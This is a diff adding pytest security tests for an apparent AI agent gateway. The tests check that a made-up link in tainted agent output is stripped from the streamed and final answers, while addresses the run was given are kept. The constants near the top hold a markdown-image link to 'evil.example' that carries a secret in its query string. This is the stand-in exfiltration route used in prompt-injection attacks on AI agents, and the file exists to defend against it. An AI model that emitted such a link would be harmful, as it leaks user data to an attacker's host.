@@ -1,0 +1,98 @@
+"""Links in what runs say: after content of others only addresses stay that the run was given."""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING, Any
+
+import pytest
+from gateway_harness.harness import Harness, open_harness
+from gateway_harness.raw_agents import RawAgent, add_raw_agent, success
+
+from bos.common.v1 import Source
+from bos_chassis.links import REMOVED
+from bos_chassis.values import make_table, to_value_map
+from bos_testkit.plans import step
+
+if TYPE_CHECKING:
+    from collections.abc import AsyncIterator
+
+    from bos.agent.v1 import AgentResult
+    from bos.gateway.v1 import OrchestratorResponse, RunEvent
+
+pytestmark = pytest.mark.security
+
+MADE_UP = "https://evil.example/c?d=secret"
+LEAK = f"Done. ![seal]({MADE_UP})"
+SHOWN = f"Done. [seal] {REMOVED}"
+GIVEN = "https://wiki.example/terms"
+
+
+@pytest.fixture
+async def harness(postgres_dsn: str) -> AsyncIterator[Harness]:
+    async with open_harness(postgres_dsn) as harness:
+        harness.composer.deltas = ["Done. ![se", "al](https://evil.exam", "ple/c?d=secret)", " Ok."]
+        yield harness
+
+
+async def ask(
+    harness: Harness, result: AgentResult, *, is_final: bool = False, **request: Any
+) -> list[RunEvent]:
+    await add_raw_agent(harness, RawAgent("reader", lambda _: result))
+    read = step("read", "reader", "read")
+    read.is_final_answer = is_final
+    harness.planner.steps = [read]
+    async with harness.gateway() as client:
+        question = request.pop("question", "What do the terms say?")
+        return [message.event async for message in client.stream(question, **request)]
+
+
+def response(events: list[RunEvent]) -> OrchestratorResponse:
+    return events[-1].run_finished.response
+
+
+async def test_made_up_link_is_neither_streamed_nor_answered(harness: Harness) -> None:
+    events = await ask(harness, success(answer=LEAK, highlights=[LEAK], tainted=True))
+
+    streamed = "".join(e.answer_delta.text for e in events if e.HasField("answer_delta"))
+    assert streamed.startswith(SHOWN)
+    assert response(events).answer == f"{SHOWN} Ok."
+    (result,) = response(events).agent_results
+    assert (result.answer, *result.highlights) == (SHOWN, SHOWN)
+    # And nothing that comes after it has read the address.
+    assert MADE_UP not in str(harness.composer.requests)
+
+
+async def test_final_answer_of_an_agent_has_no_made_up_link(harness: Harness) -> None:
+    events = await ask(harness, success(answer=LEAK, tainted=True), is_final=True)
+    assert response(events).answer == SHOWN
+    assert MADE_UP not in str(events)
+
+
+@pytest.mark.parametrize(
+    "given",
+    [
+        {"sources": [Source(title="Terms", uri=GIVEN)]},
+        {"sources": [Source(title="Terms", excerpt=f"(see [the terms]({GIVEN}))")]},
+        {"table": make_table(["name", "site"], [["Kestrel", GIVEN]])},
+        {"data": to_value_map({"chunks": [{"text": f"Read {GIVEN}."}]})},
+    ],
+    ids=["address of a source", "quotation", "cell", "data"],
+)
+async def test_address_that_a_result_rests_on_stays(harness: Harness, given: Any) -> None:
+    answer = f"See {GIVEN}."
+    harness.composer.deltas = [answer]
+    events = await ask(harness, success(answer=answer, tainted=True, **given))
+    assert response(events).answer == answer
+    assert response(events).agent_results[0].answer == answer
+
+
+async def test_address_of_the_question_stays(harness: Harness) -> None:
+    harness.composer.deltas = [answer := f"See {GIVEN}."]
+    events = await ask(harness, success(tainted=True), question=f"What does {GIVEN} say?")
+    assert response(events).answer == answer
+
+
+async def test_answer_of_an_untainted_run_stays_as_it_is(harness: Harness) -> None:
+    events = await ask(harness, success(answer=LEAK))
+    assert response(events).answer == f"{LEAK} Ok."
+    assert response(events).agent_results[0].answer == LEAK
